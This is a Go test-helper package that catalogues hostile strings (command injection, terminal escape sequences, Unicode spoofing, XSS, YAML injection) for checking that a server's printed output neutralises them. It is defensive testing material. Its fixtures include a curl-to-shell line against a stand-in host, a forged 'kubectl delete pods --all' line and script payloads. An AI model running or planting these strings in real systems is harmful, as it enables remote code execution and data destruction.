// Package hostile lists strings that somebody may write where the API server
// validates nothing, and checks that an output has made them harmless. All tests of
// outputs use this one list.
package hostile

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// Command is an owner's name that would run if it were printed as part of a
// command and copied.
const Command = "x; curl -s evil.example.com|sh #"

// Text is a hostile string with what makes it hostile.
type Text struct{ Name, Text string }

// Texts lists all hostile strings. Only those of ValidUTF8 can be stored in an object.
func Texts() []Text {
	return append(ValidUTF8(),
		Text{"bytes that are no text", "a\xff\xfe\x9b31m\xc0\xafb"},
		Text{"a character that is cut", "a\xe2\x80"},
	)
}

// ValidUTF8 are the hostile strings that an API server stores.
func ValidUTF8() []Text {
	long := 20_000
	if testing.Short() {
		long /= 10
	}
	return []Text{
		{"a command", Command},
		{"a command in dollars", "$(touch /tmp/pwned)"},
		{"a command in backquotes", "`touch /tmp/pwned`"},
		{"quotes", `a'b"c\`},
		{"an option", "--kubeconfig=/tmp/evil"},
		{"colours and a cleared screen", "a\x1b[2J\x1b[31mb\x1b[0m"},
		{"the title of a terminal", "a\x1b]0;pwned\x07b"},
		{"a link of a terminal", "a\x1b]8;;https://evil.example.com\x1b\\click\x1b]8;;\x1b\\"},
		{"C1 control codes", "a\u009b31m\u0090b\u009c\u0085c"},
		{"a line break that forges a line", "a\nkubectl -n kube-system delete pods --all\n"},
		{"a carriage return that hides the line", "a\rb"},
		{"tabs that forge columns", "a\tok\t1/1"},
		{"backspaces, NUL and DEL", "a\b\b\x00\x7fb"},
		{"a direction", "a\u202egnp.exe\u2066b\u2069\u200f"},
		{"characters without width", "a\u200b\u200d\u2060\ufeff\u00adb"},
		{"letters that look like others", "\u0430dmin-\u0455hop"},
		{"separators of lines", "a\u2028b\u2029c"},
		{"tags and private use", "a\U000e0041\ue000\U0010ffff"},
		{"combining marks", "a" + strings.Repeat("\u0301", 50)},
		{"white space that is not a space", "a\u00a0\u3000b"},
		{"a script", `<script>alert(1)</script>`},
		{"the end of a script", `</script><img src=x onerror=alert(1)>`},
		{"the end of a title", `</title></desc></text></svg><img src=x onerror=alert(1)>`},
		{"the end of an attribute", `" onmouseover="alert(1)`},
		{"an address", `javascript:alert(1)`},
		{"Markdown", "| [a](javascript:alert(1)) ![b](https://evil.example.com/x.png) `c`"},
		{"YAML", "a\"\n- {name: evil, match: {}}\n# "},
		{"a pattern", "*"},
		{"very long", strings.Repeat("long-", long)},
		{"nothing", ""},
	}
}

// Raw describes the first character in an output that a terminal may not show as it
// is: anything but printable ASCII, line breaks, and the characters in allowed. It
// returns "" where there is none.
func Raw(output []byte, allowed string) string {
	for at := 0; at < len(output); {
		r, size := utf8.DecodeRune(output[at:])
		if r != '\n' && (r < ' ' || r > '~') && (r == utf8.RuneError || !strings.ContainsRune(allowed, r)) {
			return fmt.Sprintf("%q at byte %d, after %q", output[at:at+size], at, output[max(0, at-60):at])
		}
		at += size
	}
	return ""
}

// Unprintable is like Raw, for output that keeps the letters of all languages, such as
// YAML that is read as data: it finds what Unicode does not call printable.
func Unprintable(output []byte) string {
	for at := 0; at < len(output); {
		r, size := utf8.DecodeRune(output[at:])
		if r != '\n' && (r == utf8.RuneError && size == 1 || !unicode.IsPrint(r)) {
			return fmt.Sprintf("%q at byte %d, after %q", output[at:at+size], at, output[max(0, at-60):at])
		}
		at += size
	}
	return ""
}
